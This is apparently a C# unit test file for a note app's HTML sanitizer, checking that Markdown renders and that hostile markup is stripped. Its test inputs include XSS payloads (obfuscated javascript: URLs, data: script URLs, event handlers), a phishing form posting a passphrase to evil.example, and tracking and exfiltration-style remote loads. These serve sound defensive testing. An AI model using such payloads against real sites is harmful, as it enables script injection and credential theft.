using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using HermitSync.Web.Notes;
using HermitSync.Storage;

namespace HermitSync.UnitTests.Web;

/// <summary>The note sanitizer's allow-list: what Markdig writes survives, nothing else does.</summary>
public sealed class NoteHtmlSanitizerTests
{
    private readonly MarkdownRenderer _markdown = new();
    private readonly NoteHtmlSanitizer _sanitizer = new();

    private const string Pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
    private static readonly string Attached = AttachmentLinks.PathOf(new string('c', 64));

    [Theory]
    [InlineData("# One\n\n###### Six", "<h1>One</h1>\n<h6>Six</h6>")]
    [InlineData("*em* **strong** ~~del~~ ~sub~ ^sup^ ++ins++ ==mark== `code`",
        "<p><em>em</em> <strong>strong</strong> <del>del</del> <sub>sub</sub> <sup>sup</sup> <ins>ins</ins> <mark>mark</mark> <code>code</code></p>")]
    [InlineData("3. three\n4. four", "<ol start=\"3\">\n<li>three</li>\n<li>four</li>\n</ol>")]
    [InlineData("- [ ] to do\n- [x] done", "<ul>\n<li>☐ to do</li>\n<li>☑ done</li>\n</ul>")]
    [InlineData("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>")]
    [InlineData("```cs\nvar x = 1;\n```", "<pre><code>var x = 1;\n</code></pre>")]
    [InlineData("a  \nb\n\n***", "<p>a<br>\nb</p>\n<hr>")]
    [InlineData("[site](https://example.org \"Example\") <https://auto.example/x>",
        "<p><a href=\"https://example.org\" title=\"Example\" rel=\"noopener noreferrer nofollow\">site</a> <a href=\"https://auto.example/x\" rel=\"noopener noreferrer nofollow\">https://auto.example/x</a></p>")]
    [InlineData("[mail](mailto:a@example.org) [here](/Notes/New)",
        "<p><a href=\"mailto:a@example.org\" rel=\"noopener noreferrer nofollow\">mail</a> <a href=\"/Notes/New\" rel=\"noopener noreferrer nofollow\">here</a></p>")]
    public void What_Markdig_writes_comes_through(string markdown, string html) =>
        Assert.Equal(html, _markdown.ToSafeHtml(markdown).Trim());

    [Fact]
    public void Table_columns_keep_their_alignment_without_a_style()
    {
        var html = _markdown.ToSafeHtml("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |");

        Assert.Contains("<th align=\"left\">a</th>", html);
        Assert.Contains("<th align=\"center\">b</th>", html);
        Assert.Contains("<td align=\"right\">3</td>", html);
        Assert.Contains("<td>4</td>", html);
        Assert.DoesNotContain("style", html);
    }

    [Fact]
    public void An_attached_image_is_shown()
    {
        var image = Single(_markdown.ToSafeHtml($"![a dot]({Attached})"), "img");

        Assert.Equal(Attached, image.GetAttribute("src"));
        Assert.Equal("a dot", image.GetAttribute("alt"));
    }

    [Fact]
    public void An_image_inside_the_text_is_not_shown_only_its_description()
    {
        Assert.Equal("<p>a dot</p>", _markdown.ToSafeHtml($"![a dot]({Pixel})").Trim());
    }

    [Theory]
    [InlineData("http://127.0.0.1:9/pixel.png")]
    [InlineData("https://tracker.example/read-receipt.gif?note=1")]
    [InlineData("//tracker.example/p.png")]
    [InlineData("pixel.png")]
    [InlineData("/api/notes")]
    [InlineData("/attachments/cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc?x")]
    [InlineData("/attachments/../api/notes")]
    public void A_remote_image_becomes_a_link_to_it(string source)
    {
        var html = _markdown.ToSafeHtml($"![what it shows]({source})");

        Assert.Empty(Parse(html).QuerySelectorAll("img"));
        var link = Single(html, "a");
        Assert.Equal(source, link.GetAttribute("href"));
        Assert.Equal(NoteHtmlSanitizer.RemoteImageNotice + source, link.TextContent);
        Assert.Equal("what it shows", link.GetAttribute("title"));
        Assert.Equal(NoteHtmlSanitizer.LinkRel, link.GetAttribute("rel"));
    }

    [Theory]
    [InlineData("<img src=\"javascript:alert(1)\" alt=\"kept words\">")]
    [InlineData("<img src=\"java&#9;script:alert(1)\" alt=\"kept words\">")]
    [InlineData("<img src=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\" alt=\"kept words\">")]
    public void An_image_with_a_dangerous_source_leaves_only_its_description(string html)
    {
        var safe = _sanitizer.Sanitize(html);

        Assert.Equal("kept words", safe);
    }

    [Theory]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">x</a>")]
    [InlineData("<a href=\"java&#9;script:alert(1)\">x</a>")]
    [InlineData("<a href=\"java\nscript:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#1;javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#106;avascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>")]
    [InlineData("<a href=\"data:image/svg+xml,&lt;svg onload=alert(1)&gt;\">x</a>")]
    [InlineData("<a href=\"file:///etc/passwd\">x</a>")]
    public void A_link_that_is_not_to_the_web_mail_or_the_app_loses_its_target(string html) =>
        Assert.Equal("<a rel=\"noopener noreferrer nofollow\">x</a>", _sanitizer.Sanitize(html));

    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\" method=\"post\"><p>Your passphrase</p><input type=\"password\" name=\"p\"><button formaction=\"https://evil.example\">Unlock</button></form>")]
    [InlineData("<input type=\"checkbox\" checked disabled><input type=\"image\" src=\"http://evil.example/x.png\"><select><option>secret</option></select><textarea>secret</textarea>")]
    [InlineData("<div style=\"position:fixed;inset:0;background-image:url(http://evil.example/x.png)\">overlay</div>")]
    [InlineData("<p class=\"offline\" id=\"offline\" style=\"color:red\" onclick=\"alert(1)\" data-live=\"1\">fake banner</p>")]
    [InlineData("<style>body { display: none } @import url(http://evil.example/x.css);</style>")]
    [InlineData("<link rel=\"stylesheet\" href=\"http://evil.example/x.css\"><link rel=\"prefetch\" href=\"http://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\"><base href=\"http://evil.example/\">")]
    [InlineData("<iframe src=\"http://evil.example\">secret</iframe><object data=\"http://evil.example/x\"></object><embed src=\"http://evil.example/x\">")]
    [InlineData("<svg><image href=\"http://evil.example/x.png\"/><script>alert(1)</script><text>secret</text></svg><math><mi>secret</mi></math>")]
    [InlineData("<img src=\"" + Pixel + "\" srcset=\"http://evil.example/x.png 2x\" style=\"position:fixed\" onerror=\"alert(1)\" width=\"9999\" loading=\"lazy\"><picture><source srcset=\"http://evil.example/x.png\"></picture>")]
    [InlineData("<video poster=\"http://evil.example/x.png\" src=\"http://evil.example/v\"></video><audio src=\"http://evil.example/a\"></audio><a href=\"https://example.org\" ping=\"http://evil.example/ping\" target=\"_blank\" rel=\"opener\">x</a>")]
    [InlineData("<template><form><input></form></template><noscript><p>secret</p></noscript><script>alert(1)</script>")]
    [InlineData("<details open><summary>s</summary><dialog open>modal</dialog></details><marquee>m</marquee><table background=\"http://evil.example/x.png\"><tr><td>t</td></tr></table>")]
    public void Nothing_outside_the_allow_list_survives(string html)
    {
        var document = Parse(_sanitizer.Sanitize(html));

        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, NoteHtmlSanitizer.AllowedTags);
            foreach (var attribute in element.Attributes)
            {
                Assert.True(NoteHtmlSanitizer.AllowedAttributes.Contains(attribute.Name) || attribute.Name == "rel", $"<{element.LocalName} {attribute.Name}> survived");
            }
            Assert.DoesNotContain("evil.example", element.GetAttribute("src") ?? "");
        }
        Assert.DoesNotContain("secret", document.Body.TextContent);
        Assert.DoesNotContain("alert", document.Body.TextContent);
    }

    [Fact]
    public void Words_inside_an_element_that_is_not_allowed_are_kept()
    {
        var safe = _sanitizer.Sanitize("<div align=\"center\"><font color=\"red\">Red <b>bold</b> words</font></div><form><p>Enter your passphrase</p><button>Unlock</button></form>");

        Assert.Equal("Red bold words<p>Enter your passphrase</p>Unlock", safe);
    }

    [Fact]
    public void Excerpts_are_plain_words()
    {
        Assert.Equal("☐ milk\n☑ eggs", _markdown.ToPlainText("- [ ] milk\n- [x] eggs"));
    }

    private static IElement Single(string html, string tag) => Assert.Single(Parse(html).QuerySelectorAll(tag));

    private static AngleSharp.Html.Dom.IHtmlDocument Parse(string html) => new HtmlParser().ParseDocument($"<body>{html}</body>");
}
